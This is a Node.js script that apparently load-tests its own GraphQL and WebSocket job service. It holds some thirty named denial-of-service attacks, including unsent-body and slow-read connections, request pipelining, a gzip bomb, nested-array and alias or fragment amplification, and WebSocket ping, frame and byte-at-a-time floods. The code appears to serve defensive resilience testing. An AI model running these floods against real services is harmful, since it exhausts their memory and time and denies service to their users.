/**
 * Attacks by users with a good key, each by its name: `node attacks.mjs NAME SECONDS`, with the address, the key and what it is aimed at in
 * the environment (ATTACK_URL, ATTACK_KEY, ATTACK_JOB). A process of its own, so that nobody else waits for its work.
 * Without a name it lists them. docs/attacks.md says what each showed.
 */
import { once } from 'node:events';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { WebSocket } from 'ws';

const MIB = 1024 * 1024;
const JOBS = 10_000;
const [, , name, seconds = '5'] = process.argv;
const { ATTACK_URL: url = 'http://localhost', ATTACK_KEY: key = '', ATTACK_JOB: job = '' } = process.env;
const { hostname, port, host, pathname } = new URL(url);
const until = Date.now() + Number(seconds) * 1000;
const goesOn = () => Date.now() < until;
const authorization = `Bearer ${key}`;
const agent = new Agent({ keepAlive: true, maxSockets: Infinity });
const resting = () => sleep(Math.max(0, until - Date.now()));
const text = (n, make) => Array.from({ length: n }, (_, i) => make(i)).join(' ');

const answers = new Map();
const told = (code) => answers.set(code, (answers.get(code) ?? 0) + 1);

/** One request; what it was answered is counted, and its connection goes on. */
function post(body, headers = {}) {
  return new Promise((resolve) => {
    const sent = request(
      url,
      {
        agent,
        method: 'POST',
        headers: {
          authorization,
          'content-type': 'application/json',
          'content-length': Buffer.byteLength(body),
          ...headers,
        },
      },
      (response) => {
        let begin = '';
        response.on('data', (piece) => {
          if (begin.length < 2_000) begin += piece;
        });
        response.on('end', () => {
          told(/"code":"(\w+)"/.exec(begin)?.[1] ?? response.statusCode);
          resolve();
        });
        response.on('error', resolve);
      },
    );
    sent.on('error', (error) => {
      told(error.code);
      setTimeout(resolve, 50);
    });
    sent.end(body);
  });
}
const query = (query, variables) => JSON.stringify({ query, variables });

/** So many at a time, each sending its next request when it has its answer. */
const posting = (atATime, body, headers) =>
  Promise.all(
    Array.from({ length: atATime }, async (_, i) => {
      for (let n = 0; goesOn(); n++) await post(typeof body === 'function' ? body(i, n) : body, headers);
    }),
  );

const head = (more) =>
  `POST ${pathname} HTTP/1.1\r\nhost: ${host}\r\nauthorization: ${authorization}\r\ncontent-type: application/json\r\n${more}\r\n\r\n`;
/** Until it takes more, or the attack is over. */
const drained = (socket) =>
  Promise.race([once(socket, 'drain'), once(socket, 'close'), resting()]).catch(() => {});
async function plain() {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  await once(socket, 'connect');
  return socket;
}

async function open() {
  const socket = new WebSocket(url.replace(/^http/, 'ws'), 'graphql-transport-ws', {
    perMessageDeflate: false,
  });
  socket.on('error', (error) => told(error.code ?? 'error'));
  socket.on('close', (code) => told(`closed ${code}`));
  await Promise.race([once(socket, 'open'), once(socket, 'close')]);
  socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization } }));
  await Promise.race([once(socket, 'message'), once(socket, 'close')]);
  return socket;
}
const opened = (n) => Promise.all(Array.from({ length: n }, open));
const subscribe = (socket, id, query, variables) =>
  socket.send(JSON.stringify({ id: String(id), type: 'subscribe', payload: { query, variables } }));
const isOpen = (socket) => socket.readyState === WebSocket.OPEN;

/** A frame as clients send it, masked with zeros. */
const frame = (first, payload = Buffer.alloc(0)) => {
  const length =
    payload.length < 126 ? [0x80 | payload.length] : [0xfe, payload.length >> 8, payload.length & 255];
  return Buffer.concat([Buffer.from([first, ...length, 0, 0, 0, 0]), payload]);
};
const message = (value) => frame(0x81, Buffer.from(JSON.stringify(value)));
/** Bytes over and over on so many connections, as fast as they are taken. */
async function flooding(connections, bytes) {
  const piece = Buffer.concat(Array(Math.ceil((64 * 1024) / bytes.length)).fill(bytes));
  await Promise.all(
    (await opened(connections)).map(async (socket) => {
      const raw = socket._socket;
      while (goesOn() && !raw.destroyed) if (!raw.write(piece)) await drained(raw);
    }),
  );
}
const SUBMIT = 'mutation ($jobs: [JobInput!]!) { submitJobs(input: { jobs: $jobs }) { errors { message } } }';
const jobs = (make) => Array.from({ length: JOBS }, (_, i) => make(i));
const CHANGES =
  'subscription ($after: String) { jobUpdated(after: $after) { cursor event { at } job { id name command site { name } } } }';
const OUTPUT = `subscription { jobOutput(job: "${job}") { text } }`;

const ATTACKS = {
  // The service's own time and memory.
  async 'bodies announced and never sent'() {
    // Down to the last of the memory there may be.
    for (const bytes of [...Array(8).fill(32 * MIB), ...Array(8).fill(MIB), ...Array(16).fill(64 * 1024)])
      (await plain()).write(`${head(`content-length: ${bytes}`)}{`);
    await resting();
  },
  'pings on 40 connections': () => flooding(40, frame(0x89)),
  async '1800 followers of an output'() {
    for (const socket of await opened(9)) for (let i = 0; i < 200; i++) subscribe(socket, i, OUTPUT);
    await resting();
  },
  async '800 replays of all events'() {
    for (const socket of await opened(4))
      for (let i = 0; i < 200; i++) subscribe(socket, i, CHANGES, { after: '0' });
    await resting();
  },
  'a field 420 times': () => posting(20, query(`{ ${'viewer { id } '.repeat(420)} }`)),
  'bad jobs, 32 MB': () =>
    posting(
      4,
      query(SUBMIT, { jobs: jobs(() => ({ command: 'x'.repeat(3_000), tasks: 0, estimateS: -1 })) }),
    ),
  'refused jobs under 100 aliases': () =>
    posting(
      2,
      query(
        `mutation ($jobs: [JobInput!]!) { ${text(100, (i) => `a${i}: submitJobs(input: { jobs: $jobs }) { errors { message } }`)} }`,
        { jobs: jobs(() => ({ command: '' })) },
      ),
    ),

  // API.
  'pipelined requests': async () => {
    const body = query('{ viewer { id } }');
    const one = head(`content-length: ${body.length}`) + body;
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        while (goesOn()) {
          const socket = await plain();
          socket.resume();
          while (goesOn() && !socket.destroyed) if (!socket.write(one.repeat(200))) await drained(socket);
        }
      }),
    );
  },
  'requests beyond the rate': () => posting(200, query('{ viewer { id } }')),
  'arrays within arrays': () =>
    posting(8, `{"query":"{ viewer { id } }","variables":{"x":${'['.repeat(2e6)}${']'.repeat(2e6)}}}`),
  'misspelled names': () =>
    posting(20, (i, n) => query(`{ ${text(4_000, (k) => `sitez${(n * 31 + i + k) % 9973}`)} }`)),
  'operations and fragments without end': () =>
    posting(
      20,
      query(
        `${text(900, (i) => `query Q${i}($a: ID!) { ...F0 }`)} ${text(900, (i) => `fragment F${i} on Query { ...F${i + 1} }`)} fragment F900 on Query { job(id: $a) { id } }`,
      ),
    ),
  'large pages': () =>
    posting(
      60,
      query(
        '{ jobs(first: 5000) { nodes { id name state command arguments user { name } site { name } submittedAt startedAt endedAt tasks estimateS } } }',
      ),
    ),
  'explanations without end': () =>
    posting(
      60,
      query(`{ ${text(90, (i) => `a${i}: job(id: "${job}") { whyWaiting { message } expectedStart }`)} }`),
    ),
  'compressed bodies': () => {
    const small = gzipSync(Buffer.from(`{"query":"{ viewer { id } }"${' '.repeat(31 * MIB)}}`));
    return posting(20, small, { 'content-encoding': 'gzip' });
  },
  'histories of years': () =>
    posting(
      40,
      query(
        `{ ${text(40, (i) => `a${i}: usage(by: APPLICATION, from: "2025-12-01T00:00:00Z") { application } b${i}: loadHistory(from: "2025-12-01T00:00:00Z", points: 500) { __typename }`)} }`,
      ),
    ),
  'answers that nobody reads': async () => {
    const body = query('{ jobs(first: 5000) { nodes { id name state command arguments submittedAt } } }');
    while (goesOn()) {
      const socket = await plain();
      socket.pause();
      socket.write(head(`content-length: ${body.length}`) + body);
      await sleep(20);
    }
  },
  'filters with 10 000 ids': () =>
    posting(
      40,
      query(`query ($ids: [ID!]) { ${text(90, (i) => `a${i}: jobCount(filter: { ids: $ids })`)} }`, {
        ids: jobs((i) => `job_${i}`),
      }),
    ),

  // WebSocket.
  'messages that ask for a pong': () => flooding(40, message({ type: 'ping' })),
  'frames without content': () =>
    flooding(
      40,
      Buffer.concat([
        frame(0x01),
        ...Array(1_000).fill(frame(0x00)),
        frame(0x80, Buffer.from('{"type":"ping"}')),
      ]),
    ),
  'subscriptions begun and ended': () =>
    flooding(
      20,
      Buffer.concat([
        message({
          id: '1',
          type: 'subscribe',
          payload: { query: 'subscription { siteUpdated { cursor } }' },
        }),
        message({ id: '1', type: 'complete' }),
      ]),
    ),
  'documents that nobody knows': async () => {
    const sockets = await opened(10);
    for (let n = 0; goesOn(); n++) {
      for (const socket of sockets.filter(isOpen))
        if (socket.bufferedAmount < MIB)
          subscribe(
            socket,
            n,
            `query Q${n} { ${text(300, (i) => `b${i % 90}x${n}: viewer { id name role }`)} }`,
          );
      await sleep(1);
    }
  },
  'operations that are not valid': () =>
    flooding(
      20,
      message({ id: '1', type: 'subscribe', payload: { query: `{ ${text(300, (i) => `nothing${i}`)} }` } }),
    ),
  'messages that never end': async () => {
    const begun = Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0x3f, 0xff, 0xff, 0, 0, 0, 0]);
    for (const socket of await opened(200)) {
      socket._socket.write(begun);
      socket._socket.write(Buffer.alloc(3 * MIB, 'x'));
    }
    await resting();
  },
  'subscribers that never read': async () => {
    for (const socket of await opened(40)) {
      for (let i = 0; i < 20; i++) subscribe(socket, i, CHANGES, { after: '0' });
      socket._socket.pause();
    }
    await resting();
  },
  'every event to 2000 subscriptions': async () => {
    for (const socket of await opened(10)) for (let i = 0; i < 200; i++) subscribe(socket, i, CHANGES);
    const change =
      'mutation ($n: Int!) { reprioritizeJobs(selection: { ids: ["' +
      job +
      '"] }, boost: $n) { unchanged { message } } }';
    await posting(4, (_i, n) => query(change, { n: -(n % 1000) }));
  },
  'a byte at a time': async () => {
    const bytes = message({ id: '1', type: 'subscribe', payload: { query: '{ viewer { id } }' } });
    await Promise.all(
      (await opened(100)).map(async (socket) => {
        const raw = socket._socket.setNoDelay(true);
        for (let i = 0; goesOn() && !raw.destroyed; i = (i + 1) % bytes.length) {
          raw.write(bytes.subarray(i, i + 1));
          if (i % 4 === 0) await new Promise(setImmediate);
        }
      }),
    );
  },
  'connections opened and closed': () =>
    Promise.all(
      Array.from({ length: 40 }, async () => {
        while (goesOn()) {
          const socket = await open().catch(() => null);
          socket?.terminate();
        }
      }),
    ),
};

if (name === undefined) console.log(Object.keys(ATTACKS).join('\n'));
else {
  // Whatever waits for an answer that does not come.
  setTimeout(() => done(), Number(seconds) * 1000 + 500).unref();
  ATTACKS[name]().then(done, (error) => {
    console.log(`failed: ${error.stack}`);
    process.exit(1);
  });
}
function done() {
  console.log([...answers].map(([code, n]) => `${code} ${n}`).join(', ') || 'no answer');
  process.exit(0);
}
